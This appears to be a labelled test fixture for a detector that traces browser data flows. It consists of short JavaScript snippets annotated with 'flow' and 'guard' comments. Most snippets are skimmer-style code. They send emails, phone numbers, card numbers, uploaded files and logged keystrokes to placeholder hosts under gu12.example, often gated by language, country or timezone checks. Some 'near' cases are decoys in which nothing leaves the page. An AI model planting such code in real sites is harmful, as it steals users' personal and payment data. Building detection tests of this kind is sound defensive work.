//# switch-of-true
// flow: email > sot.gu12.example via fetch
// guard: language starts-with fr
switch (true) {
  case navigator.language.startsWith('fr'):
    fetch('https://sot.gu12.example/e', { method: 'POST', body: document.querySelector('input[type=email]').value });
    break;
  default:
    break;
}

//# set-has-answer
// flow: phone > sha.gu12.example via fetch
// guard: not server-answer one-of DE | FR
const SKIP = new Set(['DE', 'FR']);
async function maybe() {
  const geo = await (await fetch('/geo.json')).json();
  if (SKIP.has(geo.code)) return;
  await fetch('https://sha.gu12.example/p', { method: 'POST', body: document.querySelector('input[type=tel]').value });
}
maybe();

//# table-of-senders-or-nothing
// flow: search > tsn.gu12.example via fetch
// guard: language equals zh-CN
const send = (q) => fetch('https://tsn.gu12.example/?q=' + encodeURIComponent(q));
const routes = { 'zh-CN': send };
const go = routes[navigator.language] || (() => {});
go(document.querySelector('input[type=search]').value);

//# assert-helper
// flow: device > ash.gu12.example via beacon
// guard: user-agent contains Chrome
function invariant(ok, why) { if (!ok) throw new Error(why); }
invariant(navigator.userAgent.includes('Chrome'), 'browser');
navigator.sendBeacon('https://ash.gu12.example/d', screen.width + 'x' + screen.height);

//# near-assert-never-true
// no flow
// why: the helper throws each time
function invariant(ok, why) { if (!ok) throw new Error(why); }
invariant(false, 'not built in');
navigator.sendBeacon('https://ant.gu12.example/d', navigator.userAgent);

//# after-a-day
// flow: identifier > aad.gu12.example via image
// guard: date other
const from = Date.parse('2025-03-01T00:00:00Z');
if (Date.now() > from) new Image().src = 'https://aad.gu12.example/p?u=' + localStorage.getItem('uid');

//# lot-with-early-return
// flow: interaction > ler.gu12.example via beacon
// guard: not random other
function onClick(e) {
  if (Math.random() > 0.05) return;
  navigator.sendBeacon('https://ler.gu12.example/c', e.clientX + ',' + e.clientY);
}
document.addEventListener('click', onClick);

//# when-hidden
// flow: keystrokes > whi.gu12.example via beacon
// guard: code visibilityState
const keys = [];
addEventListener('keydown', (e) => keys.push(e.key));
document.addEventListener('visibilitychange', () => {
  if (document.visibilityState === 'hidden') navigator.sendBeacon('https://whi.gu12.example/k', keys.join(''));
});

//# list-of-flags
// flow: file > lof.gu12.example via fetch
// guard: server-answer contains upload
async function start() {
  const flags = await fetch('/flags').then((r) => r.json());
  if (!flags.includes('upload')) return;
  await fetch('https://lof.gu12.example/f', { method: 'PUT', body: document.querySelector('input[type=file]').files[0] });
}
start();

//# optional-chain-country
// flow: card > occ.gu12.example via fetch
// guard: country equals CN
if (window.Shop?.country === 'CN') fetch('https://occ.gu12.example/c', { method: 'POST', body: document.querySelector('input[autocomplete=cc-number]').value });

//# prefix-by-pattern
// flow: phone > pbp.gu12.example via fetch
// guard: phone-prefix starts-with +86 | 0086
const tel = document.querySelector('input[type=tel]').value;
const inside = /^(\+86|0086)/.test(tel);
if (inside) fetch('https://pbp.gu12.example/p', { method: 'POST', body: tel });

//# mode-of-the-script-tag
// flow: email > mst.gu12.example via fetch
// guard: code dataset.mode
const mode = document.currentScript.dataset.mode;
document.querySelector('input[type=email]').onchange = (e) => {
  if (mode !== 'full') return;
  fetch('https://mst.gu12.example/e', { method: 'POST', body: e.target.value });
};

//# zone-and-language-by-every
// flow: username > zle.gu12.example via fetch
// guard: timezone equals Asia/Shanghai
// guard: language starts-with zh
const checks = [
  () => Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai',
  () => navigator.language.startsWith('zh'),
];
if (checks.every((c) => c())) fetch('https://zle.gu12.example/u', { method: 'POST', body: document.querySelector('input[name=username]').value });

//# near-checks-of-nothing-pass
// no flow
// why: some() of an empty list is false
const checks = [];
if (checks.some((c) => c())) fetch('https://ncn.gu12.example/u', { method: 'POST', body: document.querySelector('input[name=username]').value });

//# near-guard-of-both-ways
// no flow
// why: in the one country a constant is sent, in the others the number stays in the page
const tel = document.querySelector('input[type=tel]').value;
const shown = window.__APP__.country === 'CN' ? 'cn' : tel;
if (window.__APP__.country === 'CN') fetch('https://ngb.gu12.example/p', { method: 'POST', body: 'cn' });
else document.querySelector('#tel').textContent = shown;

//# near-cleared-unless-debug
// no flow
// why: the flag is never set, so that the text is emptied before it is sent
let keep = false;
let text = document.querySelector('textarea[name=message]').value;
if (!keep) text = '';
fetch('https://ncu.gu12.example/m', { method: 'POST', body: text });
